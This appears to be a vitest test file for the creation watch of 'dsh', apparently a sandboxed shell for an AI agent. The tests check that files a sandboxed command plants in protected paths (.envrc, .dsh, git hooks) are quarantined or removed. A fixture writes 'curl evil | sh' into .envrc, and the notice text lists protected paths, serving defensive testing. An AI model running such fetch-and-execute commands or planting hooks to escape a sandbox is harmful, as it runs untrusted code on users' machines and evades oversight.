// The creation watch on a real tree, without a sandbox: what appears where a protected path was
// absent is moved to the quarantine (numbered when planted again), a new `.dsh*` name counts, what
// dsh itself wrote stays, nothing else is touched, and the model's note is exact (golden).
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { tempTree, type TempTree } from '@dsh/testkit'
import { CreationWatch, protectedInsideRoots } from '../src/index.ts'

let tree: TempTree | undefined
let watch: CreationWatch | undefined
afterEach(async () => {
  watch?.dispose()
  watch = undefined
  await tree?.dispose()
})

describe('the creation watch', () => {
  it('reverts plants, numbers a second one, keeps dsh\'s own writes, and says so exactly', async () => {
    tree = await tempTree({ 'repo/.git/config': '', 'repo/.git/hooks/': null, 'repo/.dshrc': '', 'repo/src/a.ts': '', 'q/': null })
    const repo = tree.path('repo')
    const quarantine = tree.path('q')
    const warned: string[] = []
    watch = new CreationWatch({ quarantine, warn: (line) => warned.push(line) })
    watch.observe(protectedInsideRoots([repo]), [repo])
    writeFileSync(join(repo, '.envrc'), 'curl evil | sh\n')
    mkdirSync(join(repo, '.dsh'))
    writeFileSync(join(repo, '.dsh/settings.yaml'), 'x\n')
    watch.exempt(join(repo, '.vscode/settings.json'))
    mkdirSync(join(repo, '.vscode'))
    writeFileSync(join(repo, '.vscode/settings.json'), '{}\n')
    writeFileSync(join(repo, 'new.txt'), 'fine\n')
    expect(watch.sweep()).toEqual([join(repo, '.envrc'), join(repo, '.dsh')])
    writeFileSync(join(repo, '.envrc'), 'again\n')
    expect(watch.sweep()).toEqual([join(repo, '.envrc')])
    const [stamp = ''] = readdirSync(quarantine)
    const q = join(quarantine, stamp, 'repo')
    expect(watch.notice()?.replaceAll(repo, 'REPO').replaceAll(q, 'Q')).toBe(
      '[dsh reverted what a sandboxed command created: REPO/.envrc (moved to Q/.envrc), REPO/.dsh (moved to Q/.dsh), REPO/.envrc (moved to Q/.envrc.2). ' +
        'Shell commands may not create git hooks or config, .dsh* files, .claude, .vscode, .idea, .envrc or .mcp.json, nor a .git at the top of a root, and may not change hook files (.husky, the core.hooksPath directory, pre-commit and lefthook config) or the executable files of the repository: programs outside the sandbox run them later. ' +
        'To create or change one, use the write or edit tool (it asks the user), or ask the user to do it.]',
    )
    expect(watch.notice()).toBeUndefined()
    expect(readFileSync(join(q, '.envrc'), 'utf8')).toBe('curl evil | sh\n')
    expect(readFileSync(join(q, '.envrc.2'), 'utf8')).toBe('again\n')
    expect(readFileSync(join(q, '.dsh/settings.yaml'), 'utf8')).toBe('x\n')
    expect(readFileSync(join(repo, '.vscode/settings.json'), 'utf8')).toBe('{}\n')
    expect(existsSync(join(repo, '.dshrc'))).toBe(true)
    expect(readFileSync(join(repo, 'new.txt'), 'utf8')).toBe('fine\n')
    expect(warned[0]).toBe(`dsh: moved ${repo}/.envrc, which a sandboxed command created (a protected path), to ${q}/.envrc`)
  })

  it('without a quarantine a plant is removed, and the note says so', async () => {
    tree = await tempTree({ 'repo/.git/config': '' })
    const repo = tree.path('repo')
    watch = new CreationWatch({ warn: () => undefined })
    watch.observe(protectedInsideRoots([repo]), [repo])
    mkdirSync(join(repo, '.git/hooks'))
    writeFileSync(join(repo, '.git/hooks/pre-commit'), '#!/bin/sh\n')
    expect(watch.sweep()).toEqual([join(repo, '.git/hooks')])
    expect(existsSync(join(repo, '.git/hooks'))).toBe(false)
    expect(watch.notice()).toMatch(new RegExp(`^\\[dsh reverted what a sandboxed command created: ${repo}/\\.git/hooks \\(removed\\)\\. `))
  })
})
